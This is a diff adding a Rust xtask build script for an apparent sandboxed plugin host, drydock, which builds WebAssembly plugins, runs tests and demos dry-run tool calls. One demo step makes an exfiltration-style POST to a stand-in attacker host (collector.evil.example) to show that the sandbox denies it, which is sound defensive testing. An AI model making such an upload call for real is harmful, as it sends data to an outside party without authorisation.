@@ -1,1 +1,156 @@
-fn main() {}
+//! `cargo xtask <command>`: the README's commands, runnable on a fresh machine with only rustup and cargo.
+//!
+//! - `demo`:    installs the wasm32-wasip2 target, builds the plugins and the `drydock` binary, then invokes
+//!              the demo tools in dry run and prints each result and effect journal.
+//! - `test`:    installs the target, builds the plugins, runs the whole test suite.
+//! - `plugins`: installs the target and builds the plugins only.
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use anyhow::{Context, bail};
+
+const TARGET: &str = "wasm32-wasip2";
+
+fn main() -> anyhow::Result<()> {
+    let root = workspace_root();
+    let command = std::env::args().nth(1).unwrap_or_default();
+    match command.as_str() {
+        "plugins" => build_plugins(&root),
+        "test" => {
+            build_plugins(&root)?;
+            run(Command::new(cargo()).current_dir(&root).args(["test", "--workspace", "--all-targets"]))
+        }
+        "demo" => demo(&root),
+        _ => {
+            eprintln!("usage: cargo xtask <demo|test|plugins>");
+            bail!("unknown command `{command}`")
+        }
+    }
+}
+
+fn workspace_root() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .parent()
+        .expect("xtask lives in the workspace root")
+        .to_path_buf()
+}
+
+fn cargo() -> String {
+    std::env::var("CARGO").unwrap_or_else(|_| "cargo".into())
+}
+
+fn run(command: &mut Command) -> anyhow::Result<()> {
+    let status = command
+        .status()
+        .with_context(|| format!("cannot run {command:?}"))?;
+    if !status.success() {
+        bail!("{command:?} failed with {status}");
+    }
+    Ok(())
+}
+
+/// Adds the wasm32-wasip2 target with rustup when the toolchain lacks it.
+fn ensure_target() -> anyhow::Result<()> {
+    let installed = Command::new("rustup")
+        .args(["target", "list", "--installed"])
+        .output()
+        .context("rustup is needed to install the wasm32-wasip2 target")?;
+    if String::from_utf8_lossy(&installed.stdout).lines().any(|l| l.trim() == TARGET) {
+        return Ok(());
+    }
+    eprintln!("xtask: installing the {TARGET} target with rustup");
+    run(Command::new("rustup").args(["target", "add", TARGET]))
+}
+
+fn build_plugins(root: &Path) -> anyhow::Result<()> {
+    ensure_target()?;
+    eprintln!("xtask: building the plugins for {TARGET}");
+    run(Command::new(cargo())
+        .current_dir(root.join("plugins"))
+        .args(["build", "--release", "--target", TARGET]))
+}
+
+/// One step of the demo: a tool call, and whether it is expected to succeed.
+struct Step {
+    title: &'static str,
+    args: Vec<String>,
+    expect_success: bool,
+}
+
+fn demo(root: &Path) -> anyhow::Result<()> {
+    build_plugins(root)?;
+    eprintln!("xtask: building drydock");
+    run(Command::new(cargo()).current_dir(root).args(["build", "--quiet", "-p", "drydock"]))?;
+    let drydock = root.join("target/debug/drydock");
+    let invoke = |tool: &str, args: &str| -> Vec<String> {
+        ["tool", "invoke", tool, "--args", args].iter().map(|s| s.to_string()).collect()
+    };
+    let steps = [
+        Step {
+            title: "the tools the demo plugins offer",
+            args: vec!["tool".into(), "list".into()],
+            expect_success: true,
+        },
+        Step {
+            title: "a granted read: list the demo workspace",
+            args: invoke("workspace.list_files", r#"{"recursive": true}"#),
+            expect_success: true,
+        },
+        Step {
+            title: "a dry-run file write: the plugin writes a scratch copy, the host keeps the diff",
+            args: invoke(
+                "workspace.write_file",
+                r##"{"path": "notes/ABC-123.md", "content": "# ABC-123\nRetry uploads with backoff.\n"}"##,
+            ),
+            expect_success: true,
+        },
+        Step {
+            title: "a dry-run Jira comment: the POST is journaled and answered by the host, never sent",
+            args: invoke("jira.add_comment", r#"{"key": "ABC-123", "body": "Plan ready for review."}"#),
+            expect_success: true,
+        },
+        Step {
+            title: "an ungranted host: denied before anything leaves",
+            args: invoke("http.request", r#"{"url": "https://collector.evil.example/upload", "method": "POST", "body": "data"}"#),
+            expect_success: false,
+        },
+        Step {
+            title: "a plan for a work item from the template planner",
+            args: [
+                "plan",
+                "generate",
+                "--work-item",
+                r#"{"id": "ABC-123", "title": "Retry failed uploads", "description": "Uploads fail on flaky networks; retry with backoff.", "type": "feature", "labels": ["backend"]}"#,
+            ]
+            .iter()
+            .map(|s| s.to_string())
+            .collect(),
+            expect_success: true,
+        },
+    ];
+    for (i, step) in steps.iter().enumerate() {
+        println!("\n=== {}. {} ===\n$ drydock {}", i + 1, step.title, shell_words(&step.args));
+        let status = Command::new(&drydock)
+            .current_dir(root)
+            .args(&step.args)
+            // The demo's stand-in values: Jira is never contacted in dry run.
+            .env("JIRA_BASE_URL", "https://jira.example.com")
+            .env("JIRA_TOKEN", "demo-token-not-a-real-secret")
+            .env_remove("DRYDOCK_LIVE")
+            .status()
+            .context("cannot run drydock")?;
+        if status.success() != step.expect_success {
+            bail!("demo step {} ended with {status}, which the demo did not expect", i + 1);
+        }
+    }
+    println!("\nThe demo workspace is unchanged: every write above was a dry run (see `git status demo/`).");
+    Ok(())
+}
+
+fn shell_words(args: &[String]) -> String {
+    args.iter()
+        .map(|a| if a.contains([' ', '"', '{']) { format!("'{a}'") } else { a.clone() })
+        .collect::<Vec<_>>()
+        .join(" ")
+}
